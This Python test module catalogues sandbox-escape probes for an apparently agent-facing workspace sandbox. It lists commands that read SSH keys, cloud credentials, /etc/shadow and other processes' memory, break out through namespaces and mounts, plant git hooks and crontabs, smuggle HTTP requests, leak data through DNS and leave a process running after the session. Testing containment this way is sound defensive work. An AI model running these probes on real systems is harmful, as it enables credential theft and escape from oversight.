"""
Ways out of the walls, each as a real process.

An attempt is a script and what would show that it got out: ``told`` when it prints the secret or
the word ESCAPED, ``made`` when a file of its name lies in the folder outside, ``changed`` when a
file that it must not change is another than before, ``gone`` when the victim has ended,
``reached`` when a listener outside heard from it.

The variables: ``WS`` the workspace, ``OUT`` a folder beside it, ``VICTIM`` a process outside,
``PORT`` a port on loopback that the ticket does not name, ``NAMED`` one that it does, ``UDP`` a
port for datagrams, ``ABSTRACT`` and ``AGENT`` two unix sockets outside, ``KEYRING`` a key's name.
"""

from __future__ import annotations

from typing import NamedTuple


class Attempt(NamedTuple):
    """One way out; ``how`` is the interpreter, ``sign`` what would show that it worked."""

    name: str
    code: str
    how: str = "sh"
    sign: str = "told"


def _py(name: str, code: str, sign: str = "told") -> Attempt:
    return Attempt(name, code, "python", sign)


def _node(name: str, code: str, sign: str = "told") -> Attempt:
    return Attempt(name, code, "node", sign)


SYSCALL = "import ctypes,os,sys;L=ctypes.CDLL(None,use_errno=True);E=os.environ;"

READS = (
    Attempt("cat outside", "cat $OUT/secret.txt"),
    Attempt("cat in the workspace", "cat $WS/key"),
    Attempt("dot dot", "cat src/../../outside/secret.txt"),
    Attempt("a link that is there", "cat src/link"),
    Attempt("a linked folder", "cat src/folder/secret.txt"),
    Attempt("a new link", "ln -s $OUT/secret.txt src/n1; cat src/n1"),
    Attempt("a chain of links", "ln -s ../.. src/n2; ln -s n2/outside src/n3; cat src/n3/secret.txt"),
    Attempt("a new hard link", "ln $OUT/secret.txt src/n4; cat src/n4"),
    Attempt("copy by links", "cp -l $OUT/secret.txt src/n5; cat src/n5"),
    Attempt("move it in", "mv $OUT/movable.txt src/n6; cat src/n6"),
    Attempt("own root", "cat /proc/self/root$OUT/secret.txt"),
    Attempt("root of the first process", "cat /proc/1/root$OUT/secret.txt"),
    Attempt("root of any process", "cat /proc/[0-9]*/root$OUT/secret.txt"),
    Attempt("folder of any process", "cat /proc/[0-9]*/cwd/secret.txt"),
    Attempt("open file of the victim", "cat /proc/$VICTIM/fd/0"),
    Attempt("environment of the victim", "cat /proc/$VICTIM/environ"),
    Attempt("memory of the victim", "head -c 1 /proc/$VICTIM/mem && echo ESCAPED; cat /proc/$VICTIM/maps | grep -q r-x && echo ESCAPED"),
    Attempt("environment of the broker", "for p in /proc/[0-9]*; do tr '\\0' '\\n' <$p/environ; done | grep SECRET"),
    Attempt("the person's key", "cat $PERSON/.ssh/id_rsa"),
    Attempt("cloud credentials", "cat $PERSON/.aws/credentials"),
    Attempt("net credentials", "cat $PERSON/.netrc"),
    Attempt("shadow", "grep -q root /etc/shadow && echo ESCAPED"),
    Attempt("host keys", "cat /etc/ssh/*key 2>/dev/null | grep -q PRIVATE && echo ESCAPED"),
    Attempt("the broker's key", "cat $BROKER/data/keys/* | head -c 1 | grep -q . && echo ESCAPED"),
    Attempt("receipts", "cat $BROKER/state/sessions/*/receipt.jsonl | grep -q . && echo ESCAPED"),
    Attempt("heads", "ls $BROKER/state/heads | grep -q . && echo ESCAPED"),
    Attempt("find", "find / -name secret.txt -exec cat {} + 2>/dev/null"),
    Attempt("tar", "tar czf - $OUT 2>/dev/null | tar xzOf - 2>/dev/null"),
    Attempt("git clone", "git clone -q $OUT/repo src/clone && cat src/clone/secret.txt"),
    Attempt("git no index", "git diff --no-index /dev/null $OUT/secret.txt"),
    Attempt("file address", "curl -s file://$OUT/secret.txt"),
    Attempt("disk device", "head -c 512 /dev/[vs]da | head -c 1 | grep -q . && echo ESCAPED"),
    Attempt("new device", "mknod src/disk b 254 0 && head -c 9 src/disk | grep -q . && echo ESCAPED"),
    Attempt("memory device", "head -c 9 /dev/mem | grep -q . && echo ESCAPED"),
    Attempt("shared memory", "cat /dev/shm/broker-test-secret"),
    Attempt("bind mount", "mkdir src/m; mount --bind $OUT src/m; cat src/m/secret.txt"),
    Attempt("new user space", "unshare -Urm sh -c 'mount --bind $OUT src; cat src/secret.txt'"),
    Attempt("new user space only", "unshare -U true && echo ESCAPED"),
    Attempt("space of the victim", "nsenter -t $VICTIM -m cat $OUT/secret.txt"),
    Attempt("another root", "chroot /proc/1/root cat $OUT/secret.txt"),
    Attempt("nested bubblewrap", "bwrap --bind / / cat $OUT/secret.txt"),
    _py("python", "print(open(__import__('os').environ['OUT']+'/secret.txt').read())"),
    _py("unshare by call", SYSCALL + "print('ESCAPED' if L.unshare(0x10000000)==0 else 'no')"),
    _py("clone3", SYSCALL + "a=(ctypes.c_uint64*11)(0x10000000);r=L.syscall(435,a,88)\nif r==0: os._exit(0)\nprint('ESCAPED' if r>0 else 'no')"),
    _py("clone with a new space", SYSCALL + "r=L.syscall(56,0x10000000|17,0,0,0,0)\nif r==0: os._exit(0)\nprint('ESCAPED' if r>0 else 'no')"),
    _py("trace the victim", SYSCALL + "print('ESCAPED' if L.ptrace(16,int(E['VICTIM']),0,0)==0 else 'no')"),
    _py("read the victim's memory", SYSCALL + "b=ctypes.create_string_buffer(8);v=(ctypes.c_void_p*2)(ctypes.addressof(b),8);w=(ctypes.c_void_p*2)(0x400000,8)\nr=L.process_vm_readv(int(E['VICTIM']),v,1,w,1,0)\nprint('ESCAPED' if r>0 or ctypes.get_errno()==14 else 'no')"),
    _py("open by handle", SYSCALL + "h=(ctypes.c_uint32*34)(128);m=ctypes.c_int()\nr=L.name_to_handle_at(-100,b'/usr',h,ctypes.byref(m),0)\nf=os.open('/usr',0)\nprint('ESCAPED' if L.open_by_handle_at(f,h,0)>=0 else 'no')"),
    _py("ring of calls", SYSCALL + "p=(ctypes.c_uint32*30)();print('ESCAPED' if L.syscall(425,4,p)>=0 else 'no')"),
    _py("key ring", SYSCALL + "r=L.syscall(249,b'user',E['KEYRING'].encode(),None,-3);print('ESCAPED' if r>=0 else 'no')"),
    _py("system memory segment", SYSCALL + "L.shmat.restype=ctypes.c_void_p;r=L.shmat(int(E['SHM']),None,0);print(ctypes.string_at(r,32) if r not in (None,2**64-1) else 'no')"),
    _node("node", "console.log(require('fs').readFileSync(process.env.OUT+'/secret.txt','utf8'))"),
)

WRITES = (
    Attempt("write outside", "echo x > $OUT/made-1", sign="made"),
    Attempt("touch outside", "touch $OUT/made-2", sign="made"),
    Attempt("folder outside", "mkdir $OUT/made-3", sign="made"),
    Attempt("copy outside", "cp src/a.py $OUT/made-4", sign="made"),
    Attempt("link outside", "ln -s /x $OUT/made-5", sign="made"),
    Attempt("through a link", "echo x > src/folder/made-6", sign="made"),
    Attempt("through a new link", "ln -s $OUT src/n7; echo x > src/n7/made-7", sign="made"),
    Attempt("untar outside", "cd src; tar cf t.tar a.py; tar xf t.tar -C $OUT --transform s/a.py/made-8/", sign="made"),
    Attempt("git worktree outside", "cd src; git init -q g; cd g; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m a; git worktree add -q $OUT/made-9", sign="made"),
    Attempt("rsync by mv", "mv src/b.py $OUT/made-10", sign="made"),
    Attempt("root of another", "echo x > /proc/1/root$OUT/made-11; echo x > /proc/$VICTIM/root$OUT/made-11", sign="made"),
    _node("node writes", "require('fs').writeFileSync(process.env.OUT+'/made-12','x')", "made"),
    _py("python writes", "open(__import__('os').environ['OUT']+'/made-13','w')", "made"),
    _py("a race of links", "import os,threading\no=os.environ['OUT']\ndef swap():\n  for i in range(3000):\n    try:\n      os.mkdir('src/r');os.rmdir('src/r');os.symlink(o,'src/r');os.unlink('src/r')\n    except OSError: pass\nt=threading.Thread(target=swap);t.start()\nwhile t.is_alive():\n  try: open('src/r/made-14','w')\n  except OSError: pass", "made"),
    Attempt("append to what is read-only", "echo x >> docs/read.md", sign="changed"),
    Attempt("empty what is read-only", ": > docs/read.md", sign="changed"),
    Attempt("truncate", "truncate -s 0 docs/read.md", sign="changed"),
    Attempt("remove", "rm -f docs/read.md", sign="changed"),
    Attempt("move away", "mv docs/read.md src/moved.md", sign="changed"),
    Attempt("move over", "cp src/a.py src/c.py; mv -f src/c.py docs/read.md", sign="changed"),
    Attempt("edit in place", "sed -i s/read/x/ docs/read.md", sign="changed"),
    Attempt("second name", "echo x >> src/hard.txt", sign="changed"),
    Attempt("a new second name", "ln docs/read.md src/n8 && echo x >> src/n8", sign="changed"),
    Attempt("mode", "chmod 777 docs/read.md", sign="changed"),
    Attempt("times", "touch -d 2001-01-01 docs/read.md", sign="changed"),
    _py("attribute", "import os;os.setxattr('docs/read.md','user.x',b'1')", "changed"),
    _py("memory map", "import mmap\nf=open('docs/read.md','r+b');m=mmap.mmap(f.fileno(),0);m[0:1]=b'x'", "changed"),
    _py("open again for writing", "import os\nf=os.open('docs/read.md',os.O_RDONLY)\nos.write(os.open(f'/proc/self/fd/{f}',os.O_WRONLY),b'x')", "changed"),
    _py("name for a nameless file", "import os\nf=os.open('src',os.O_TMPFILE|os.O_WRONLY)\nos.link(f'/proc/self/fd/{f}',os.environ['OUT']+'/made-15',follow_symlinks=True)", "made"),
    _py("exchange", SYSCALL + "open('src/x1','w').write('x');L.renameat2(-100,b'src/x1',-100,b'docs/read.md',2)", "changed"),
    Attempt("a hook of the repository", "echo x > .git/hooks/pre-commit", sign="changed"),
    Attempt("a hook of a nested repository", "echo x > src/nested/.git/hooks/post-commit", sign="changed"),
    Attempt("configure a nested repository", "git -C src/nested config core.pager /tmp/x", sign="changed"),
    Attempt("move a nested repository's folder", "mv src/nested/.git src/nested/old", sign="changed"),
    Attempt("the shell's start file", "echo x >> $PERSON/.bashrc", sign="changed"),
    Attempt("the broker's configuration", "mkdir -p $BROKER/config; echo x > $BROKER/config/broker.toml", sign="changed"),
    Attempt("the receipt", "for f in $BROKER/state/sessions/*/receipt.jsonl; do echo x >> $f; done", sign="changed"),
    Attempt("the workspace's settings", "mkdir -p .broker/catalogs && touch .broker/catalogs/x.toml", sign="changed"),
    Attempt("a file at the workspace's root", "touch $WS/new-at-root", sign="changed"),
    _py("kernel settings", "import os;os.open('/proc/sys/kernel/core_pattern',os.O_WRONLY);print('ESCAPED')"),
    Attempt("timer table", "echo x > /var/spool/cron/crontabs/x && echo ESCAPED"),
    Attempt("kill the victim", "kill -9 $VICTIM", sign="gone"),
    Attempt("stop the victim", "kill -STOP $VICTIM", sign="gone"),
    Attempt("priority of the victim", "renice -n 5 -p $VICTIM && echo ESCAPED"),
    Attempt("rights of root", "grep -q 'CapEff:.*[1-9a-f]' /proc/self/status && echo ESCAPED; true"),
    Attempt("rights to come", "grep -q 'NoNewPrivs:.*1' /proc/self/status || echo ESCAPED"),
    Attempt("a program of root's", "su -c 'cat $OUT/secret.txt' nobody </dev/null"),
    _py("keys for the terminal", "import fcntl,pty,os\na,b=pty.openpty()\nos.setsid()\nfcntl.ioctl(b,0x540E,0)\nfcntl.ioctl(b,0x5412,b'x')\nprint('ESCAPED')"),
)

NETWORK = (
    _py("tcp", "import os,socket;socket.create_connection(('127.0.0.1',int(os.environ['PORT'])),2).sendall(b'tcp')", "reached"),
    Attempt("bash tcp", "bash -c 'echo x > /dev/tcp/127.0.0.1/'$PORT", sign="reached"),
    Attempt("curl without proxy", "curl -s -m 2 --noproxy '*' http://127.0.0.1:$PORT/", sign="reached"),
    Attempt("curl with proxy", "curl -s -m 2 --noproxy '' http://127.0.0.1:$PORT/", sign="reached"),
    Attempt("a tunnel to loopback", "curl -s -m 2 --noproxy '' -p http://127.0.0.1:$PORT/", sign="reached"),
    Attempt("a tunnel to localhost", "curl -s -m 2 --noproxy '' -p http://localhost:$PORT/", sign="reached"),
    Attempt("a redirect", "curl -s -m 2 -L --noproxy '' http://127.0.0.1:$NAMED/redirect", sign="reached"),
    Attempt("another host's name", "curl -s -m 2 --noproxy '' -H Host:127.0.0.1:$PORT http://127.0.0.1:$NAMED/", sign="reached"),
    Attempt("a user before the host", "curl -s -m 2 --noproxy '' http://127.0.0.1:$NAMED@127.0.0.1:$PORT/", sign="reached"),
    Attempt("a decimal address", "curl -s -m 2 --noproxy '' --proxy $http_proxy http://2130706433:$PORT/", sign="reached"),
    Attempt("a short address", "curl -s -m 2 --noproxy '' http://127.1:$PORT/", sign="reached"),
    Attempt("an address of sixes", "curl -s -m 2 --noproxy '' 'http://[::1]:'$PORT/", sign="reached"),
    Attempt("a mapped address", "curl -s -m 2 --noproxy '' 'http://[::ffff:127.0.0.1]:'$PORT/", sign="reached"),
    Attempt("the address of nothing", "curl -s -m 2 --noproxy '' http://0.0.0.0:$PORT/", sign="reached"),
    Attempt("the cloud's metadata", "curl -s -m 2 --noproxy '' http://169.254.169.254/ | grep -qv refused && echo ESCAPED"),
    Attempt("a name that is not in scope", "curl -s -m 2 http://example.com/ | grep -qiv refused && echo ESCAPED"),
    Attempt("https to a name that is not in scope", "curl -s -m 4 -o /dev/null https://example.com/ && echo ESCAPED"),
    Attempt("git over https", "git clone -q https://example.com/x src/x && echo ESCAPED"),
    Attempt("git over ssh", "GIT_SSH_COMMAND='ssh -o ConnectTimeout=2' git clone -q git@127.0.0.1:x src/y && echo ESCAPED"),
    _py("the proxy's own socket", "import os,socket\ns=socket.socket(socket.AF_UNIX);s.connect(os.environ['EGRESS'])\np=os.environ['PORT'];s.sendall(f'CONNECT 127.0.0.1:{p} HTTP/1.1\\r\\n\\r\\n'.encode());s.recv(99);s.sendall(b'x')", "reached"),
    _py("two requests at once", "import os,socket,urllib.parse as u\np=u.urlsplit(os.environ['http_proxy']);s=socket.create_connection((p.hostname,p.port),2)\nn,q=os.environ['NAMED'],os.environ['PORT']\ns.sendall(f'GET http://127.0.0.1:{n}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\nGET http://127.0.0.1:{q}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n'.encode())\nwhile s.recv(4096): pass", "reached"),
    _py("a body of two lengths", "import os,socket,urllib.parse as u\np=u.urlsplit(os.environ['http_proxy']);s=socket.create_connection((p.hostname,p.port),2)\nn,q=os.environ['NAMED'],os.environ['PORT']\nr=f'GET http://127.0.0.1:{q}/ HTTP/1.1\\r\\n\\r\\n'\ns.sendall(f'POST http://127.0.0.1:{n}/ HTTP/1.1\\r\\nContent-Length: {len(r)}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{r}'.encode())\nwhile s.recv(4096): pass", "reached"),
    _py("a line break in the address", "import os,socket,urllib.parse as u\np=u.urlsplit(os.environ['http_proxy']);s=socket.create_connection((p.hostname,p.port),2)\nn,q=os.environ['NAMED'],os.environ['PORT']\ns.sendall(f'GET http://127.0.0.1:{n}\\n@127.0.0.1:{q}/ HTTP/1.1\\r\\n\\r\\n'.encode())\nwhile s.recv(4096): pass", "reached"),
    _py("udp", "import os,socket;socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'udp',('127.0.0.1',int(os.environ['UDP'])))", "reached"),
    _py("udp of sixes", "import os,socket;socket.socket(socket.AF_INET6,socket.SOCK_DGRAM).sendto(b'udp',('::ffff:127.0.0.1',int(os.environ['UDP'])))", "reached"),
    _py("names", "import socket;socket.setdefaulttimeout(2);print('ESCAPED',socket.getaddrinfo('example.com',80))"),
    _py("names by datagrams", "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(1)\nq=b'\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07secret0\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'\ns.sendto(q,('8.8.8.8',53));print('ESCAPED')"),
    _py("names by the machine's server", "import socket\nfor l in open('/etc/resolv.conf'):\n  if l.startswith('nameserver'):\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(1);s.sendto(b'x'*12,(l.split()[1],53));print('ESCAPED')"),
    _py("raw packets", "import socket;socket.socket(socket.AF_INET,socket.SOCK_RAW,1);print('ESCAPED')"),
    _py("packets of the wire", "import socket;socket.socket(17,socket.SOCK_RAW,0);print('ESCAPED')"),
    _py("out of a virtual machine", "import socket;socket.socket(40,socket.SOCK_STREAM,0);print('ESCAPED')"),
    _py("sockets of the cipher", "import socket;socket.socket(38,socket.SOCK_SEQPACKET,0);print('ESCAPED')"),
    _py("an abstract socket", "import os,socket;s=socket.socket(socket.AF_UNIX);s.connect('\\0'+os.environ['ABSTRACT']);print(s.recv(99))"),
    _py("a descriptor from outside", "import os,socket,array\ns=socket.socket(socket.AF_UNIX);s.connect('\\0'+os.environ['ABSTRACT']);m,a,f,x=socket.recv_fds(s,99,1);print(os.read(a[0],99))"),
    _py("an agent's socket", "import os,socket;s=socket.socket(socket.AF_UNIX);s.connect(os.environ['AGENT']);print(s.recv(99))"),
    Attempt("the agent's variable", "test -n \"$SSH_AUTH_SOCK\" && echo ESCAPED; true"),
    _py("listen to others", "import socket;s=socket.socket();s.bind(('0.0.0.0',48123));s.listen();print('listening')\nimport time;time.sleep(1)", "listens"),
    _node("node connects", "require('net').connect(+process.env.PORT,'127.0.0.1').on('error',()=>{}).write('x')", "reached"),
    Attempt("outlive the run", "setsid sleep 77123 >/dev/null 2>&1 &", sign="lives"),
)

ALL = (*READS, *WRITES, *NETWORK)

# What Landlock alone cannot hold, and how the launch says it. Bubblewrap holds all of it.
BY_LANDLOCK = {
    "mode": "modes, owners and times",
    "times": "modes, owners and times",
    "attribute": "modes, owners and times",
    "an agent's socket": "services at unix sockets",
}
